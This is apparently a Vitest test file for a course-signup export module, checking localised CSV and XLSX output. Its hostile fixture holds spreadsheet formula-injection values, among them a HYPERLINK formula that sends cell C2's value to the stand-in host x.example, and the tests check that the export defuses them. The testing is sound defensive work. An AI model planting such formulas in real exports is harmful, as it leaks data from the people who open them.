// @vitest-environment node
import { inflateRawSync } from 'node:zlib';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { OfficeSignup } from './courses-console-api';
import { signupsCsv, signupsTable, xlsxBlob, type SignupsWords } from './signups-export';

const words: SignupsWords = {
  columns: ['ticket', 'Persona', 'Correo', 'Grupo', 'Estado', 'Pago', 'Precio', 'Fecha', 'Imágenes'],
  status: (s) => ['Pendiente', 'Plaza asignada', '', 'En lista de espera'][s] ?? String(s),
  payment: (p) => (p === 1 ? 'Pagado' : 'Pago pendiente'),
  email: (e) => (e.endsWith('.invalid') ? 'Sin e-mail' : e),
  yes: 'Sí',
  no: 'No',
};

const label = (es: string, eus: string) => ({ label_es: es, label_eus: eus, label_en: '' });
const signup = (ticketID: number, answers: OfficeSignup['form_answers'], status = 1): OfficeSignup =>
  ({
    ticketID,
    user_id: ticketID,
    first_name: 'Ane',
    last_name: `Zubia ${ticketID}`,
    email: `ane${ticketID}@example.com`,
    variant: null,
    selectedVariant: {
      uuid: 'x',
      poolID: 2,
      selected_days: [1],
      schedule: '18:00-19:00',
      max_seating: 8,
      price: '',
      visibility: 1,
      priority: 0,
    },
    status,
    payment_status: 1,
    payment_refund: null,
    payment_price: 45.5,
    signup_dt: '2026-11-20T10:00:00.000Z',
    // The person's choice on the use of images: yes for the first, no for the others.
    image_use: ticketID === 1 ? 1 : 0,
    offer_expires_at: null,
    requires_card_payment: 0,
    form_answers: answers,
  }) as OfficeSignup;

const signups = [
  signup(1, [
    { id: 'h', type: 'text_header', ...label('Datos', 'Datuak') },
    { id: 'cap', type: 'text', ...label('Color del gorro', 'Txanoaren kolorea'), inputdata: 'Rojo' },
    { id: 'ok', type: 'checkbox', ...label('Acepto', 'Onartzen dut'), inputdata: true },
    {
      id: 'swims',
      type: 'radio',
      ...label('¿Nada?', 'Igeri?'),
      inputdata: 'y',
      children: [{ value: 'y', label_es: 'Sí, 50 m', label_eus: 'Bai, 50 m' }],
    },
    { id: 'card', type: 'file', ...label('Tarjeta', 'Txartela'), inputdata: { name: 'tarjeta.pdf', fileId: 9 } },
  ]),
  signup(2, [{ id: 'cap', type: 'text', ...label('Color del gorro', 'Txanoaren kolorea'), inputdata: 'Azul' }], 3),
];

/** The files of a zip (the workbook), by name. */
function unzip(buf: Buffer): Map<string, string> {
  const out = new Map<string, string>();
  for (let at = 0; buf.readUInt32LE(at) === 0x04034b50; ) {
    const method = buf.readUInt16LE(at + 8);
    const size = buf.readUInt32LE(at + 18);
    const nameLength = buf.readUInt16LE(at + 26);
    const extra = buf.readUInt16LE(at + 28);
    const name = buf.subarray(at + 30, at + 30 + nameLength).toString('utf8');
    const data = buf.subarray(at + 30 + nameLength + extra, at + 30 + nameLength + extra + size);
    out.set(name, (method === 8 ? inflateRawSync(data) : data).toString('utf8'));
    at += 30 + nameLength + extra + size;
  }
  return out;
}

describe('the signups export', () => {
  it('has a column per question with the answers in the reader language', () => {
    const table = signupsTable(signups, 'eus', words);
    expect(table.header).toEqual([...words.columns, 'Txanoaren kolorea', 'Onartzen dut', 'Igeri?', 'Txartela']);
    expect(table.rows[0]).toEqual([
      1,
      'Ane Zubia 1',
      'ane1@example.com',
      'Gobela 18:00-19:00',
      'Plaza asignada',
      'Pagado',
      45.5,
      '2026-11-20T10:00:00.000Z',
      'Sí',
      'Rojo',
      'Sí',
      'Bai, 50 m',
      'tarjeta.pdf',
    ]);
    expect(table.rows[1]!.slice(4, 11)).toEqual(['En lista de espera', 'Pagado', 45.5, '2026-11-20T10:00:00.000Z', 'No', 'Azul', '']);
  });

  /** A member named like a formula, with answers typed like formulas (one with a line break). */
  const hyperlink = '=HYPERLINK("http://x.example/?"&C2,"Ver")';
  const hostile = {
    ...signup(3, [
      { id: 'cap', type: 'text', ...label('Color del gorro', 'Txanoaren kolorea'), inputdata: `${hyperlink}\nGracias` },
      { id: 'note', type: 'textarea', ...label('@Nota', '@Oharra'), inputdata: '\t=1+2' },
    ]),
    first_name: '=1+2',
    last_name: 'Zubia',
    email: '+34@example.com',
  } as OfficeSignup;

  it('writes names and answers typed like formulas as text: no CSV cell starts with = + - @ tab or CR unquoted', () => {
    const csv = signupsCsv(signupsTable([...signups, hostile], 'es', words));
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const cells = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(cells).toHaveLength(4);
    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells[0]).toContain("'@Nota");
    expect(cells[3]!.slice(0, 3)).toEqual(['3', "'=1+2 Zubia", "'+34@example.com"]);
    expect(cells[3]).toEqual(expect.arrayContaining([`'${hyperlink}\nGracias`, "'\t=1+2"]));
  });

  it('writes a workbook that holds the answers', async () => {
    const blob = await xlsxBlob(signupsTable(signups, 'es', words), 'Inscripciones');
    const bytes = Buffer.from(await blob.arrayBuffer());
    expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
    const files = unzip(bytes);
    expect(files.get('xl/workbook.xml')).toContain('name="Inscripciones"');
    const text = [...files.values()].join('\n');
    for (const s of ['Color del gorro', 'Rojo', 'Azul', 'Sí, 50 m', 'tarjeta.pdf', 'ane2@example.com']) expect(text).toContain(s);
  });

  it('writes values typed like formulas into the workbook as strings, never as formulas', async () => {
    const files = unzip(Buffer.from(await (await xlsxBlob(signupsTable([hostile], 'es', words), 'Inscripciones')).arrayBuffer()));
    const rows = files.get('xl/worksheets/sheet1.xml')!;
    expect(rows).not.toContain('<f>');
    expect([...rows.matchAll(/<c [^>]*\bt="([^"]+)"/g)].map((m) => m[1]).filter((t) => t !== 's')).toEqual([]);
    const strings = files.get('xl/sharedStrings.xml')!;
    for (const s of ['=1+2 Zubia', '+34@example.com', '@Nota', `${hyperlink}\nGracias`])
      expect(strings).toContain(`<t>${s.replaceAll('&', '&amp;')}</t>`);
  });
});
